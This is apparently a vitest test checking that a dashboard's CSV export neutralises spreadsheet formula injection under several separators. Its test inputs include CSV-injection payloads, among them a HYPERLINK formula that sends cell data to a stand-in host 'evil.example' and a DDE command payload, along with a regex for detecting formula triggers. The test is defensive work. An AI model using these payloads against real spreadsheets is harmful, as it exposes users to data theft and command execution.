import { execFileSync } from 'node:child_process';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { dashboardPlugin } from '../../src/dashboard/dashboard-plugin.ts';
import { startTestServer, type TestServer } from '../support/start-test-server.ts';
import { describeWithProgram } from '../support/with-program.ts';
import { createDashboardClient, type DashboardClient } from './dashboard-client.ts';

/** Python's own reader of CSV, as a spreadsheet set to a country's separator reads: rows of cells, as JSON. */
const READER =
  'import csv,io,json,sys;print(json.dumps(list(csv.reader(io.StringIO(sys.stdin.read(),newline=""),delimiter=sys.argv[1]))))';
/** What makes a spreadsheet run a cell, after what it leaves out in front. */
const FORMULA = /^["' ]*[=+\-@\t\r\n\uff0b\uff0d\uff1d\uff20]/;

const URLS = [
  'https://x.example/;=HYPERLINK("https://evil.example/?"&A1,"paypal")',
  'https://x.example/;+1+1;-1;@SUM(A1:A9)',
  "https://x.example/;\"=cmd|'/c calc'!A1",
  'https://x.example/,"=1+1",=2',
  'https://x.example/"\r\n=1',
  'https://x.example/?q=;\uff1d1+1',
  'https://paypa1-login.example/;=1;%0a=2',
];

describeWithProgram(['python3', '-c', 'import csv'], 'an exported history in a spreadsheet', () => {
  let server: TestServer;
  let client: DashboardClient;
  beforeAll(async () => {
    server = await startTestServer('sqlite', { plugins: [dashboardPlugin] });
    client = createDashboardClient(server.url);
    await client.signUp('user@example.com');
  });
  afterAll(() => server.close());

  test('has no cell that runs, by whatever character it is parted; parted by commas, every cell is whole', async () => {
    let stored = 0;
    for (const url of URLS) {
      const { status } = await client.call('POST', '/app/v1/analyze', { url, depth: 'fast' });
      if (status === 200) stored++;
    }
    expect(stored).toBeGreaterThanOrEqual(URLS.length - 1);
    const { text } = await client.call('GET', '/app/api/analyses/export?format=csv');
    const cellsBy = (separator: string): string[][] =>
      JSON.parse(execFileSync('python3', ['-c', READER, separator], { input: text, encoding: 'utf8' }));
    for (const separator of [',', ';', '\t', '|']) {
      const running = cellsBy(separator)
        .flat()
        .filter((cell) => FORMULA.test(cell.replace(/^'/, '\0')));
      expect(running, JSON.stringify(separator)).toEqual([]);
    }
    const rows = cellsBy(',');
    expect(rows).toHaveLength(stored + 1);
    expect(new Set(rows.map((row) => row.length)).size).toBe(1);
  });
});
